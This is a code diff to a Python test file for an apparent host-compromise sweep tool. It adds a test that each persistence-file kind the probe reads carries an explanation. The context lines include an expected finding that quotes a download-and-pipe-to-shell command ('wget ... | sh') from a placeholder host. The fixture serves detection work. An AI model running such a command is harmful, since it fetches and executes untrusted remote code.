@@ -6,8 +6,9 @@ from typing import Any
 
 import pytest
 
+from aftermath.secure.sweep.checks import RecentPersistence
 from aftermath.secure.sweep.model import Severity
-from aftermath.secure.sweep.run import apply_checks
+from aftermath.secure.sweep.run import apply_checks, probe_params
 from aftermath.secure.sweep.techniques import pam_problem
 from tests.secure.factsdata import DAY, NOW, clean_facts, host
 
@@ -107,3 +108,7 @@ def test_emptied_logs_and_histories_are_told_from_rotation() -> None:
                     "log /var/log/auth.log was emptied recently (not by log rotation)",
                     "shell history /home/a/.bash_history runs a downloaded or temp-folder script: "
                     "wget -q http://x/y -O- | sh"]
+
+
+def test_every_kind_of_persistence_file_the_probe_reads_says_why_it_matters() -> None:
+    assert set(probe_params(14, NOW, [])["persistence"]) <= set(RecentPersistence.WHY)
